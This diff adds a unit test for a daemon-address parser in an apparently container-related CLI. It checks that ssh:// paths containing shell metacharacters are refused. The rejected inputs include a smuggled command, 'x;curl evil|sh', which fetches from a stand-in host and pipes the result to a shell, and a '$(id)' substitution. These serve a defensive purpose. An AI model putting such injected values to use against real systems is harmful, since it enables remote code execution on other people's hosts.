@@ -120,3 +120,10 @@ test('--docker takes docker\'s keys as CSV and refuses others', () => {
   assert.deepEqual(parseDockerEndpointFlag('"host=ssh://u@h",from=x'), { host: 'ssh://u@h', from: 'x' });
   assert.throws(() => parseDockerEndpointFlag('hots=x'), /unrecognized config key: hots/);
 });
+
+test('an ssh:// path with shell characters is refused (ssh hands it to the remote shell)', () => {
+  assert.equal(parseDaemonAddress('ssh://admin@node2/run/berth/berth.sock').kind, 'ssh');
+  for (const bad of ['ssh://admin@node2/tmp/x;curl evil|sh', 'ssh://node2/a$(id)', 'ssh://node2/a b']) {
+    assert.throws(() => parseDaemonAddress(bad), /invalid SSH URL/, bad);
+  }
+});
